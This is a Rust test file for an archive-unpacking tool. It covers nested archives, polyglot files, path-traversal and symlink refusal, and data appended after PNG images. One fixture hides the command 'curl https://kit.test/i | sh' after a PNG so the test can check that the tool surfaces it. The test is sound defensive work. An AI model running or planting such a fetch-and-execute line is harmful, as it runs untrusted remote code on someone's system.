//! Archives inside archives.

use super::*;

#[test]
fn archives_are_told_by_their_bytes_and_stay_files() {
    let inner = Zip::new().file("word/x.xml", b"X").finish();
    let tgz = Tar::new().file("t", b"T").gzipped();
    let outer = Tar::new()
        .file("a.docx", &inner)
        .file("data.bin", &tgz)
        .file("notes.md.gz", &gzip(b"N"))
        .file("no.zip", b"text");
    let unpacked = untar(outer);
    let expected =
        ["a.docx", "a.docx!/word/x.xml", "data.bin", "data.bin!/t", "no.zip", "notes.md.gz", "notes.md.gz!/notes.md"];
    assert_eq!(paths(&unpacked), expected.to_vec());
    assert_eq!(gaps(&unpacked), vec![]);
}

#[test]
fn a_zip_behind_a_script_is_opened() {
    let polyglot = [&b"#!/bin/sh\n"[..], &Zip::new().file("x", b"X").finish()].concat();
    let unpacked = untar(Tar::new().file("run.sh", &polyglot));
    assert_eq!(paths(&unpacked), vec!["run.sh", "run.sh!/x"]);
    assert_eq!(gaps(&unpacked), vec![]);
}

#[test]
fn gaps_inside_have_the_outer_path() {
    let inner = Tar::new().link(b'2', "l", "x").file("../e", b"").file("f", b"").gzipped();
    let broken = Zip::new().file("x", b"X").finish();
    let outer = Zip::new().file("d/in.tgz", &inner).file("cut.zip", broken.get(..32).expect("in range"));
    let unpacked = unzip(outer);
    let expected = [
        ("cut.zip", GapReason::Truncated),
        ("d/in.tgz!/../e", GapReason::PathRefused),
        ("d/in.tgz!/l", GapReason::LinkRefused),
    ];
    assert_eq!(gaps(&unpacked), expected);
    assert!(paths(&unpacked).contains(&"d/in.tgz!/f"));
}

#[test]
fn a_name_cannot_pretend_to_be_inside_an_archive() {
    let unpacked = untar(Tar::new().file("a.zip!/x", b"fake").file("a.zip", &Zip::new().file("x", b"true").finish()));
    assert_eq!(content(&unpacked, "a.zip!/x"), b"true");
    assert_eq!(gaps(&unpacked), [("a.zip!/x", GapReason::PathRefused)]);
}

#[test]
fn containers_that_are_not_read_are_recorded() {
    assert_eq!(gaps(&untar(Tar::new().file("a.7z", b"7z\xbc\xaf\x27\x1c\0\0"))), [("a.7z", GapReason::Unsupported)]);
}

fn png() -> Vec<u8> {
    b"\x89PNG\r\n\x1a\n\0\0\0\x02IHDR\x01\x02\xAA\xBB\xCC\xDD\0\0\0\0IEND\xAE\x42\x60\x82".to_vec()
}

#[test]
fn what_follows_a_picture_is_a_file_and_an_archive_there_is_opened() {
    let script = [png(), b"curl https://kit.test/i | sh\n".to_vec()].concat();
    let zip = [png(), Zip::new().file("x", b"X").finish()].concat();
    let padded = [png(), vec![0; 64]].concat();
    let unpacked =
        untar(Tar::new().file("a.png", &script).file("b.png", &zip).file("c.png", &padded).file("d.png", &png()));
    let expected = ["a.png", "a.png!/trailing", "b.png", "b.png!/trailing", "b.png!/trailing!/x", "c.png", "d.png"];
    assert_eq!(paths(&unpacked), expected.to_vec());
    assert_eq!(gaps(&unpacked), vec![]);
    assert_eq!(content(&unpacked, "a.png!/trailing"), b"curl https://kit.test/i | sh\n");
}
